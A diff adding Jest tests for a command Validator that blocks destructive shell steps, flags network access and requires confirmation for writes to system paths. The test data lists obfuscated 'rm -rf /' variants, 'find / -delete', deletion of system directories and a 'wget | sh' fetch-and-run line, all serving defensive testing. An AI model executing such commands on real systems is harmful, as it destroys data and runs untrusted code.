@@ -1,4 +1,5 @@
-import { describe, it, expect, beforeEach } from '@jest/globals';
+import { describe, it, expect, beforeEach, jest } from '@jest/globals';
+import os from 'os';
 import { Validator } from '../../core/Validator.js';
 
 describe('Validator', () => {
@@ -35,6 +36,15 @@ describe('Validator', () => {
     expect(result.blockedReasons.length).toBeGreaterThan(0);
   });
 
+  it('should not look at the files of a blocked step', async () => {
+    const analyze = jest.spyOn(validator.impactAnalyzer, 'analyze');
+
+    const result = await validator.validateStep({ id: 'test-step', command: 'rm -rf /' });
+
+    expect(result.allowed).toBe(false);
+    expect(analyze).not.toHaveBeenCalled();
+  });
+
   it('should detect high risk operations', async () => {
     const step = {
       id: 'test-step',
@@ -72,4 +82,77 @@ describe('Validator', () => {
     expect(result.suggestions.length).toBeGreaterThan(0);
     expect(result.suggestions[0]).toContain('restrictive permissions');
   });
-});
\ No newline at end of file
+
+  it('should not block on words that only contain a dangerous name', async () => {
+    const result = await validator.validateStep({ id: 'test-step', command: 'ls --format=json' });
+
+    expect(result.allowed).toBe(true);
+    expect(result.subCommands[0].program).toBe('ls');
+  });
+
+  it.each([
+    'rm  -r -f /',
+    'rm -fr /',
+    '$(echo rm) -rf /',
+    'sudo -u root rm -rf "$HOME"',
+    'echo ok && (cd /tmp; sh -c "rm -rf /*")',
+    'wget -qO- https://example.com/x.sh | sh'
+  ])('should block %s', async (command) => {
+    const result = await validator.validateStep({ id: 'test-step', command });
+
+    expect(result.allowed).toBe(false);
+  });
+
+  it.each([
+    ['rm -rf /etc', 'Recursive deletion of a system directory'],
+    ['rm -rf /etc/*', 'Recursive deletion of a system directory'],
+    ['rm -rf /var/lib', 'Recursive deletion of a system directory'],
+    ['rm -rf ~root', 'Recursive deletion of the root or home directory'],
+    ['find / -delete', 'Recursive deletion of the root or home directory'],
+    ['find /usr -name "*.so" -exec rm -f {} +', 'Recursive deletion of a system directory']
+  ])('should say why %s is blocked', async (command, reason) => {
+    const result = await validator.validateStep({ id: 'test-step', command });
+
+    expect(result.allowed).toBe(false);
+    expect(result.blockedReasons).toEqual([reason]);
+  });
+
+  it('should rate find -delete like rm -rf', async () => {
+    const result = await validator.validateStep({ id: 'test-step', command: 'find . -name "*.tmp" -delete', workingDirectory: os.tmpdir() });
+
+    expect(result.allowed).toBe(true);
+    expect(result.riskLevel).toBe('high');
+    expect(result.warnings).toContain('Destructive file operation detected');
+  });
+
+  it('should block commands that cannot be parsed', async () => {
+    const result = await validator.validateStep({ id: 'test-step', command: 'echo "unterminated' });
+
+    if (process.platform !== 'win32') {
+      expect(result.allowed).toBe(false);
+      expect(result.blockedReasons[0]).toContain('Could not parse command');
+    }
+  });
+
+  it('should require confirmation for writes outside the project and home directory', async () => {
+    const result = await validator.validateStep({
+      id: 'test-step',
+      command: 'echo "127.0.0.1 example" >> /etc/hosts',
+      workingDirectory: os.tmpdir()
+    });
+
+    expect(result.requiresConfirmation).toBe(true);
+    expect(result.riskLevel).toBe('high');
+    expect(result.fileImpact.outsideProject).toEqual(['/etc/hosts']);
+  });
+
+  it('should flag steps that need network access', async () => {
+    const validate = command => validator.validateStep({ id: 'test-step', command });
+
+    expect((await validate('git clone https://example.com/repo.git')).requiresNetwork).toBe(true);
+    expect((await validate('npm install lodash')).requiresNetwork).toBe(true);
+    expect((await validate('curl -s https://example.com | head -1')).requiresNetwork).toBe(true);
+    expect((await validate('git status')).requiresNetwork).toBe(false);
+    expect((await validate('npm test')).requiresNetwork).toBe(false);
+  });
+});